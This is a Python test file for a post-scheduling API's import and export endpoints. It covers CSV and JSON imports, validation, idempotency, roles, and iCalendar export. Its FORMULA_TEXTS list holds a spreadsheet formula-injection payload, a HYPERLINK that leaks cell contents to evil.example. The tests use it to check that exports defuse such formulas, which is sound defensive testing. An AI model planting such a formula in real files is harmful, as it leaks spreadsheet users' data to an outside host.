"""POST /v1/imports and GET /v1/imports/<id>; GET /v1/exports/posts.csv and /v1/exports/calendar.ics."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import timedelta
from typing import Any

import icalendar
from flask.testing import FlaskClient
from sqlalchemy import func, select, update

from shared.bootstrap import Services
from shared.channels.models import Channel
from shared.db import utcnow
from shared.deliveries.models import Delivery, DeliveryState
from shared.posts.models import Post
from shared.workflow.states import post_state
from shared.workspaces.access import Role
from shared.workspaces.models import Workspace
from tests.api.conftest import ClientAs
from tests.bulk.factories import EVERY_HOUR, add_channel
from tests.factories import make_workspace

START = (utcnow() + timedelta(days=2)).replace(hour=0, minute=0, second=0, microsecond=0)
AT_NINE = START.replace(hour=9)
CSV_BODY = f"text,channels,time\nFirst,Sandbox,{AT_NINE.isoformat()}\nSecond,Sandbox,now\n"
FORMULA_TEXTS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1 for the meetup",
    "-- a dash first",
    "@channel hello",
    "\tA tab first",
    "\rA carriage return first",
    "'=already quoted by its author",
    "''=twice",
]


def import_csv(client: FlaskClient, body: str, **headers: str) -> Any:
    return client.post("/v1/imports", data=body.encode(), content_type="text/csv", headers=headers)


def count_posts(services: Services) -> int:
    with services.sessions.begin() as session:
        return session.scalar(select(func.count()).select_from(Post)) or 0


def read_posts(services: Services, post_ids: list[str]) -> list[Post]:
    with services.sessions.begin() as session:
        return [session.get_one(Post, uuid.UUID(post_id)) for post_id in post_ids]


def test_a_csv_body_makes_its_posts_and_answers_with_their_ids(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    response = import_csv(workspace_client, CSV_BODY)

    assert response.status_code == 201
    body = response.json
    assert set(body) == {"id", "posts", "post_ids", "created_at"}
    assert body["posts"] == 2
    assert response.headers["Location"] == f"/v1/imports/{body['id']}"
    first, second = read_posts(services, body["post_ids"])
    assert (first.text, first.scheduled_at) == ("First", AT_NINE)
    assert second.deliveries[0].state is DeliveryState.SCHEDULED
    assert workspace_client.get(response.headers["Location"]).json == body


def test_a_json_body_and_an_uploaded_file_are_read_too(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    posts = {"posts": [{"text": "From JSON", "channels": ["Sandbox"], "time": AT_NINE.isoformat()}]}

    from_json = workspace_client.post("/v1/imports", json=posts)
    uploaded = workspace_client.post(
        "/v1/imports",
        data={"file": (io.BytesIO(CSV_BODY.encode("utf-8-sig")), "posts.csv")},
        content_type="multipart/form-data",
    )

    assert from_json.status_code == 201, from_json.json
    assert from_json.json["posts"] == 1
    assert uploaded.status_code == 201, uploaded.json
    assert uploaded.json["posts"] == 2
    assert count_posts(services) == 3


def test_a_file_with_problems_stores_nothing_and_lists_each_with_its_row_and_column(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    body = f"text,channels,time\nFine,Sandbox,now\nLost,Nowhere,now\n,Sandbox,soon\nLate,Sandbox,{AT_NINE}\n"

    response = import_csv(workspace_client, body)

    assert response.status_code == 422
    assert response.content_type == "application/problem+json"
    assert response.json["detail"] == (
        "Nothing was imported: 3 problems in 2 rows of 4. Each error names its row and column."
    )
    assert [error["pointer"] for error in response.json["errors"]] == [
        "/rows/3/channels",
        "/rows/4/text",
        "/rows/4/time",
    ]
    assert count_posts(services) == 0


def test_a_time_in_the_past_is_refused_at_the_time_column_in_its_words(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    yesterday = (utcnow() - timedelta(days=1)).isoformat()

    response = import_csv(workspace_client, f"text,channels,time\nLate,Sandbox,{yesterday}\n")

    assert response.status_code == 422
    assert response.json["errors"] == [
        {
            "pointer": "/rows/2/time",
            "detail": "The time is in the past: give a later one, or now to publish at once.",
        }
    ]
    assert "scheduled_at" not in response.get_data(as_text=True)


def test_more_than_5000_rows_are_refused_at_once(workspace_client: FlaskClient, channel: Channel) -> None:
    rows = "".join(f"Post {number},Sandbox,now\n" for number in range(5001))

    response = import_csv(workspace_client, "text,channels,time\n" + rows)

    assert response.status_code == 422
    assert response.json["errors"] == [
        {
            "pointer": "/rows",
            "detail": "The file has 5,001 posts; an import takes at most 5,000. Split it into several files.",
        }
    ]


def test_a_body_that_is_neither_csv_nor_json_is_refused_with_415(
    workspace_client: FlaskClient, channel: Channel
) -> None:
    response = workspace_client.post("/v1/imports", data=b"<posts/>", content_type="application/xml")

    assert response.status_code == 415
    assert response.content_type == "application/problem+json"
    assert "text/csv" in response.json["detail"]


def test_a_retry_with_the_same_idempotency_key_returns_the_first_import(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    first = import_csv(workspace_client, CSV_BODY, **{"Idempotency-Key": "import-1"})
    # The same rows, as Excel would save them: a byte-order mark does not make it another request.
    retry = import_csv(workspace_client, "\ufeff" + CSV_BODY, **{"Idempotency-Key": "import-1"})

    assert first.status_code == retry.status_code == 201
    assert retry.json == first.json
    assert retry.headers["Idempotent-Replayed"] == "true"
    assert "Idempotent-Replayed" not in first.headers
    assert count_posts(services) == 2


def test_the_same_idempotency_key_with_other_rows_is_refused(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    import_csv(workspace_client, CSV_BODY, **{"Idempotency-Key": "import-1"})

    other = import_csv(workspace_client, CSV_BODY + "Third,Sandbox,now\n", **{"Idempotency-Key": "import-1"})
    used_for_a_post = workspace_client.post(
        "/v1/posts",
        json={"text": "Hi", "channel_ids": [str(channel.id)]},
        headers={"Idempotency-Key": "import-1"},
    )

    assert other.status_code == 422
    assert "different request" in other.json["detail"]
    assert used_for_a_post.status_code == 422
    assert count_posts(services) == 2


def test_a_refused_import_leaves_its_idempotency_key_free_for_the_corrected_file(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    broken = import_csv(workspace_client, "text,channels,time\nHi,Nowhere,now\n", **{"Idempotency-Key": "k"})
    fixed = import_csv(workspace_client, "text,channels,time\nHi,Sandbox,now\n", **{"Idempotency-Key": "k"})

    assert broken.status_code == 422
    assert fixed.status_code == 201
    assert count_posts(services) == 1


def test_a_viewer_may_not_import_but_may_read_an_import(
    workspace_client: FlaskClient, client_as: ClientAs, channel: Channel
) -> None:
    viewer = client_as(Role.VIEWER)
    made = import_csv(workspace_client, CSV_BODY).json

    refused = import_csv(viewer, CSV_BODY)

    assert refused.status_code == 403
    assert viewer.get(f"/v1/imports/{made['id']}").json == made


def test_a_contributors_import_waits_for_approval(
    client_as: ClientAs, services: Services, channel: Channel
) -> None:
    response = import_csv(client_as(Role.CONTRIBUTOR), CSV_BODY)

    assert response.status_code == 201
    assert {post_state(post).value for post in read_posts(services, response.json["post_ids"])} == {
        "pending_approval"
    }


def test_another_workspaces_import_is_not_found(
    workspace_client: FlaskClient, app: Any, services: Services, channel: Channel
) -> None:
    made = import_csv(workspace_client, CSV_BODY).json
    _, other_token = make_workspace(services, "Another team")
    other = app.test_client()
    other.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {other_token}"

    assert other.get(f"/v1/imports/{made['id']}").status_code == 404
    assert workspace_client.get(f"/v1/imports/{uuid.uuid4()}").status_code == 404


def test_the_posts_csv_export_imports_back_as_the_same_posts(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    add_channel(services, workspace, "Mastodon", "mastodon", posting_schedule=EVERY_HOUR)
    add_channel(services, workspace, "Queue", posting_schedule=EVERY_HOUR)
    posts = [
        {
            "text": 'Quotes "and", commas',
            "channels": ["Sandbox", "Mastodon"],
            "time": AT_NINE.replace(tzinfo=None).isoformat(),
            "timezone": "Asia/Tokyo",
            "labels": ["spring", "meetup"],
            "text:mastodon": "For the fediverse\nwith a second line",
        },
        {"text": "A thread", "channels": ["Mastodon"], "time": "now", "thread": ["One", "Two\nlines"]},
        {"text": "Queued", "channels": ["Queue"], "time": "queue"},
        {
            "text": "Weekly",
            "channels": ["Mastodon"],
            "time": AT_NINE.isoformat(),
            "recurrence": "FREQ=WEEKLY;COUNT=3",
        },
        {"text": "Someday", "channels": ["Sandbox"], "draft": True},
        # Texts a spreadsheet would run as formulas: exported with a quote in front, read back without.
        *({"text": text, "channels": ["Sandbox"], "draft": True} for text in FORMULA_TEXTS),
        {
            "text": "@everyone, labels and replies too",
            "channels": ["Sandbox", "Mastodon"],
            "labels": ["+1", "-minus"],
            "thread": ["=SUM(A1:A9)", "@reply"],
            "text:mastodon": "-10% off",
            "draft": True,
        },
    ]
    first = workspace_client.post("/v1/imports", json=posts)
    assert first.status_code == 201, first.json

    exported = workspace_client.get("/v1/exports/posts.csv")
    again = workspace_client.post("/v1/imports", data=exported.data, content_type="text/csv")

    assert exported.status_code == 200
    assert exported.mimetype == "text/csv"
    assert exported.data.startswith("\ufeff".encode())
    assert again.status_code == 201, again.json

    def shape(post: Post) -> tuple[Any, ...]:
        return (
            post.text,
            [(target.channel.name, target.text) for target in post.targets],
            post.timing,
            post.timezone,
            post.scheduled_at if post.timing.value != "queue" else None,
            post.label_names,
            post.thread,
            post.recurrence_rule,
            post.stage,
        )

    originals = read_posts(services, first.json["post_ids"])
    copies = read_posts(services, again.json["post_ids"])
    # The post sent "now" is exported at the moment it was sent: a few seconds ago still counts as now.
    assert [shape(post) for post in copies] == [shape(post) for post in originals]


def test_no_cell_of_the_posts_export_starts_as_a_formula(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    add_channel(services, workspace, "=1+1 team", "mastodon")
    posts = [
        {
            "text": text,
            "channels": ["=1+1 team", "Sandbox"],
            "labels": ["@SUM(1+1)"],
            "thread": ["+reply"],
            "text:mastodon": "-2+3",
            "draft": True,
        }
        for text in FORMULA_TEXTS
    ]
    assert workspace_client.post("/v1/imports", json=posts).status_code == 201

    exported = workspace_client.get("/v1/exports/posts.csv").data.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(exported, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(FORMULA_TEXTS) + 1
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert {row[0] for row in rows[1:]} == {"'" + text for text in FORMULA_TEXTS}
    assert {row[1] for row in rows[1:]} == {"'=1+1 team|Sandbox"}


def test_the_posts_csv_export_is_filtered_like_the_post_list(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    body = (
        "text,channels,time,labels,draft\nA draft,Sandbox,,spring,true\nScheduled,Sandbox,now,summer,false\n"
    )
    import_csv(workspace_client, body)

    drafts = workspace_client.get("/v1/exports/posts.csv?state=draft")
    summer = workspace_client.get("/v1/exports/posts.csv?label=summer")

    def rows(response: Any) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))

    assert [(row["text"], row["time"], row["draft"], row["state"]) for row in rows(drafts)] == [
        ("A draft", "", "true", "draft")
    ]
    assert [row["text"] for row in rows(summer)] == ["Scheduled"]


def test_the_calendar_exports_as_icalendar_with_one_event_per_post_and_channel(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    add_channel(services, workspace, "Mastodon", "mastodon")
    body = (
        "text,channels,time,labels,draft,recurrence\n"
        f"Meetup tomorrow!,Sandbox|Mastodon,{AT_NINE.isoformat()},spring|meetup,false,\n"
        f"Still a draft,Sandbox,{(AT_NINE + timedelta(hours=2)).isoformat()},,true,\n"
        f"Daily tip,Mastodon,{(AT_NINE + timedelta(hours=1)).isoformat()},,false,FREQ=DAILY;COUNT=2\n"
    )
    post_ids = import_csv(workspace_client, body).json["post_ids"]
    with services.sessions.begin() as session:
        session.execute(
            update(Delivery)
            .where(Delivery.post_id == uuid.UUID(post_ids[0]), Delivery.channel_id == channel.id)
            .values(state=DeliveryState.PUBLISHED, external_url="https://sandbox.invalid/@sandbox/1")
        )
    end = START + timedelta(days=3)
    query = f"from={START.date().isoformat()}T00:00&to={end.date().isoformat()}T00:00&tz=UTC"

    response = workspace_client.get(f"/v1/exports/calendar.ics?{query}")

    assert response.status_code == 200
    assert response.mimetype == "text/calendar"
    events = icalendar.Calendar.from_ical(response.data).walk("VEVENT")
    found = sorted(
        (event.decoded("dtstart"), str(event["summary"]), str(event["status"]), str(event.get("url", "")))
        for event in events
    )
    assert found == [
        (AT_NINE, "Mastodon: Meetup tomorrow!", "CONFIRMED", ""),
        (AT_NINE, "Sandbox: Meetup tomorrow!", "CONFIRMED", "https://sandbox.invalid/@sandbox/1"),
        (AT_NINE + timedelta(hours=1), "Mastodon: Daily tip", "CONFIRMED", ""),
        (AT_NINE + timedelta(hours=2), "Sandbox: Still a draft", "TENTATIVE", ""),
        (AT_NINE + timedelta(days=1, hours=1), "Mastodon: Daily tip", "CONFIRMED", ""),
    ]
    assert all(event.decoded("dtstart").tzinfo is not None for event in events)
    assert "DTSTART:" + AT_NINE.strftime("%Y%m%dT%H%M%SZ") in response.data.decode()
    meetup = next(event for event in events if "Sandbox: Meetup" in str(event["summary"]))
    assert str(meetup["description"]) == "Meetup tomorrow!"
    assert [str(category) for category in meetup.categories] == ["meetup", "spring"]
    uids = [str(event["uid"]) for event in events]
    assert len(set(uids)) == len(uids)
    again = icalendar.Calendar.from_ical(workspace_client.get(f"/v1/exports/calendar.ics?{query}").data)
    assert sorted(str(event["uid"]) for event in again.walk("VEVENT")) == sorted(uids)


def test_a_calendar_export_longer_than_a_quarter_is_refused(workspace_client: FlaskClient) -> None:
    response = workspace_client.get("/v1/exports/calendar.ics?from=2026-01-01T00:00&to=2026-12-01T00:00")

    assert response.status_code == 422
    assert response.json["errors"][0]["pointer"] == "/to"


def test_exports_need_a_token(client: FlaskClient) -> None:
    assert client.get("/v1/exports/posts.csv").status_code == 401
    assert client.get("/v1/exports/calendar.ics?from=2026-01-01T00:00&to=2026-01-02T00:00").status_code == 401


def test_a_json_import_counts_rows_from_1(workspace_client: FlaskClient, channel: Channel) -> None:
    response = workspace_client.post(
        "/v1/imports",
        data=json.dumps([{"text": "Ok", "channels": "Sandbox", "time": "now"}, {"text": "No"}]),
        content_type="application/json",
    )

    assert response.status_code == 422
    assert [error["pointer"] for error in response.json["errors"]] == ["/rows/2/channels", "/rows/2/time"]
